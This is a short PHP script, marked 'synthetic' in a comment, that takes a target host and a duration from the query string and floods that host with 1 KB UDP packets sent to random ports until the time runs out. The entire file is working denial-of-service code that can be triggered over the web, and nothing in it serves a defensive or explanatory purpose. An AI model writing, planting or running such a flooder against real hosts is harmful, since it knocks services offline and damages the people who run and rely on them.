<?php
// synthetic: floods a host from the query string with UDP packets
$host = $_GET['h'];
$end = time() + (int) $_GET['t'];
$data = str_repeat('X', 1024);
while (time() < $end) {
    $s = fsockopen('udp://' . $host, rand(1, 65000));
    if ($s) { fwrite($s, $data); fclose($s); }
}
